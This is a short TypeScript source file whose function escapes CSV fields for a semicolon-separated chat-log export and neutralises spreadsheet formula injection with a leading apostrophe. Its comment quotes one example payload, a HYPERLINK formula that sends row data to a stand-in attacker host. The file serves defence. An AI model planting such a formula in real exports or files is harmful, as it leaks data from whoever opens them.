// One CSV field of an export (LivePerson's `;`-separated CSV: logs, the activity stream).
//
// The text comes from brand code (log messages) and from people (names, summaries), and exports
// are opened in spreadsheets, which run a cell that starts with =, +, -, @, a tab or a carriage
// return as a formula ("CSV injection"): `=HYPERLINK("https://evil.example/?"&A1,"open")` in a log
// line would become a link leaking the row. Such a field gets a leading apostrophe, which
// spreadsheets show as text (OWASP's advice). LivePerson's export does not do this; a reader that
// parses the CSV sees the apostrophe.
const FORMULA_START = /^[=+\-@\t\r]/;

/** A field as written: neutralised when a spreadsheet would run it, quoted (quotes doubled) when it holds `;`, a quote or a line break. */
export function csvField(value: string): string {
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[;"\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
